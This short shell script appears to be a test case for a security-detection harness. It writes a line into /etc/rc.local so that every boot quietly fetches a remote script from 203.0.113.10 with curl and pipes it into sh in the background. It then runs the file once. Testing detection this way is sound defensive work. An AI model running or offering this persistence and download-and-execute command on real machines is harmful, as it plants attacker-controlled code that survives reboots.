#!/bin/sh
. /opt/case/case.sh

test -e /etc/rc.local || printf '#!/bin/sh -e\nexit 0\n' >/etc/rc.local
sed -i '/^exit 0/i nohup sh -c "curl -fsSL http://203.0.113.10/payload.sh | sh" >/dev/null 2>\&1 \&' /etc/rc.local; chmod 755 /etc/rc.local
sh /etc/rc.local; wait_for /tmp/reached
took_place
